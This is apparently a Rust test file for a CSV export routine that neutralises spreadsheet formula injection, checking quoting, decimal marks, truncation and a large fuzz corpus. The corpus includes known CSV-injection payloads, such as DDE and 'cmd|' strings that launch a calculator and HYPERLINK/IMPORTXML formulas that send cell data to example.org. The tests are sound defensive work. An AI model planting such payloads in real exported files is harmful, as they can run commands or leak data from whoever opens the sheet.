use super::*;

fn line(fields: &[Field<'_>]) -> String {
    let mut csv = String::new();
    push_line(&mut csv, CsvDialect::default(), fields.iter().copied());
    csv
}

fn parsed(csv: &str, delimiter: u8) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new();
    reader
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter);
    let records = reader.from_reader(csv.as_bytes()).into_records();
    records
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn null_and_empty_text_are_two_things() {
    assert_eq!(
        line(&[Field::Null, Field::Text(""), Field::Plain("1"), Field::Null]),
        ",\"\",1,\n"
    );
    assert_eq!(
        line(&[
            Field::text(None),
            Field::text(Some("a")),
            Field::plain(None)
        ]),
        ",a,\n"
    );
}

#[test]
fn numbers_and_dates_are_never_touched() {
    for plain in [
        "-1.5",
        "+3",
        "2013-03-10",
        "-0.000000000000000001",
        "12:00:00",
    ] {
        assert_eq!(line(&[Field::Plain(plain)]), format!("{plain}\n"));
    }
}

/// A spreadsheet would subtract a year, or look for a cell of that name.
#[test]
fn what_begins_with_a_sign_and_is_no_number_is_text() {
    for plain in ["-PT90S", "-0001-01-01", "-inf"] {
        assert_eq!(line(&[Field::Plain(plain)]), format!("'{plain}\n"));
    }
}

#[test]
fn texts_are_quoted_as_rfc_4180_says() {
    let check = |text: &str, csv: &str| assert_eq!(line(&[Field::Text(text)]), format!("{csv}\n"));
    check("plain", "plain");
    check("a,b", "\"a,b\"");
    check("say \"hi\"", "\"say \"\"hi\"\"\"");
    check(" edge ", "\" edge \"");
    check("two\r\nlines", "two␍␊lines");
    check("\u{202e}gpj.exe", "<U+202E>gpj.exe");
    check("\x1b[2J", "'␛[2J");
}

#[test]
fn formulas_become_texts() {
    let check = |text: &str, csv: &str| assert_eq!(line(&[Field::Text(text)]), format!("{csv}\n"));
    check("=1+1", "'=1+1");
    check("@SUM(A1)", "'@SUM(A1)");
    check("-1.5", "'-1.5");
    check("\t=1", "'␉=1");
    check("＝1", "'＝1");
    check("  =1", "'  =1");
    check("\u{feff}=1", "<U+FEFF>=1");
    check("\"=1\"", "\"'\"\"=1\"\"\"");
    check("'=1", "''=1");
    check("a;=1;b", "\"a;'=1;b\"");
    check("O'Hare", "O'Hare");
    check("a=b", "a=b");
}

/// Every trigger behind everything that could hide it, in front of payloads that are known to do harm.
fn corpus() -> Vec<String> {
    let triggers = [
        "=", "+", "-", "@", "\t", "\r", "\0", "\n", "＝", "＋", "－", "＠",
    ];
    let hiding = [
        "", " ", "\u{a0}", "\u{feff}", "\"", "\"\"", "'", "''", "x;", "x; ", "x;\"", ";;", "x\ty;",
        "x\n", "x\r\n", "\",\"", "\n;",
    ];
    let payloads = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")",
        "SUM(1;2)",
        "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "2+5+cmd|' /C calc'!A0",
        "\u{202e}1+1",
        "1\n=2;=3\t=4",
        "",
    ];
    let mut corpus = Vec::new();
    for hide in hiding {
        for trigger in triggers {
            corpus.extend(
                payloads
                    .iter()
                    .map(|payload| format!("{hide}{trigger}{payload}")),
            );
        }
    }
    corpus
}

/// Every dialect that there is.
fn dialects() -> Vec<CsvDialect> {
    let mut dialects = Vec::new();
    for delimiter in [Delimiter::Comma, Delimiter::Semicolon, Delimiter::Tab] {
        for decimal in [DecimalMark::Point, DecimalMark::Comma] {
            dialects.push(CsvDialect {
                bom: false,
                delimiter,
                decimal,
            });
        }
    }
    dialects
}

#[test]
fn a_decimal_comma_stands_in_numbers_only() {
    let fields = [
        Field::Plain("-1.5"),
        Field::Plain("1.5e-7"),
        Field::Plain("12:30:00.25"),
        Field::Plain("2026-01-01T00:00:00.5Z"),
        Field::Text("1.5"),
        Field::Plain("-PT1.5S"),
        Field::Plain("7"),
    ];
    let german = |delimiter| {
        let mut csv = String::new();
        let dialect = CsvDialect {
            bom: true,
            delimiter,
            decimal: DecimalMark::Comma,
        };
        push_line(&mut csv, dialect, fields);
        csv
    };
    assert_eq!(
        german(Delimiter::Semicolon),
        "-1,5;1,5e-7;12:30:00.25;2026-01-01T00:00:00.5Z;1.5;'-PT1.5S;7\n"
    );
    assert_eq!(
        german(Delimiter::Comma),
        "\"-1,5\",\"1,5e-7\",12:30:00.25,2026-01-01T00:00:00.5Z,1.5,'-PT1.5S,7\n"
    );
}

#[test]
fn no_cell_is_a_formula_whatever_the_delimiter() {
    let corpus = corpus();
    assert!(corpus.len() >= 2_000, "{}", corpus.len());
    for (text, dialect) in corpus
        .iter()
        .flat_map(|text| dialects().into_iter().map(move |dialect| (text, dialect)))
    {
        let mut csv = String::new();
        let fields = [
            Field::Plain("1"),
            Field::Text(text),
            Field::Text("end"),
            Field::Text(text),
        ];
        push_line(&mut csv, dialect, fields);
        for delimiter in *b",;\t" {
            let records = parsed(&csv, delimiter);
            assert_eq!(records.len(), 1, "{text:?} made {csv:?}");
            for cell in &records[0] {
                let cell = cell.trim_start_matches([' ', '\u{a0}', '\u{feff}']);
                let formula = cell
                    .starts_with(['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠']);
                assert!(
                    !formula,
                    "{text:?} made {csv:?} with {:?}",
                    char::from(delimiter)
                );
            }
        }
    }
}

#[test]
fn the_guard_comes_off() {
    let plain = ["", "a", "O'Hare", "'", "''", ";", "a;b;", "{\"a\":\"b\"}"].map(str::to_owned);
    for text in corpus().into_iter().chain(plain) {
        for dialect in dialects() {
            let (mut csv, delimiter) = (String::new(), dialect.delimiter);
            push_line(&mut csv, dialect, [Field::Text(&text), Field::Text("end")]);
            let field = parsed(&csv, delimiter.character() as u8)
                .remove(0)
                .remove(0);
            assert_eq!(unguard(&field, delimiter), visible(&text), "{text:?}");
            assert_eq!(unguard(&guard(&text, delimiter), delimiter), text);
        }
    }
}

#[test]
fn a_very_long_text_is_cut_and_says_so() {
    let text = "é".repeat(MAX_TEXT_CHARS + 7);
    let csv = line(&[Field::Text(&text)]);
    assert!(
        csv.ends_with("é… (7 more characters)\n"),
        "{}",
        &csv[csv.len() - 40..]
    );
    assert_eq!(csv.chars().filter(|c| *c == 'é').count(), MAX_TEXT_CHARS);
}
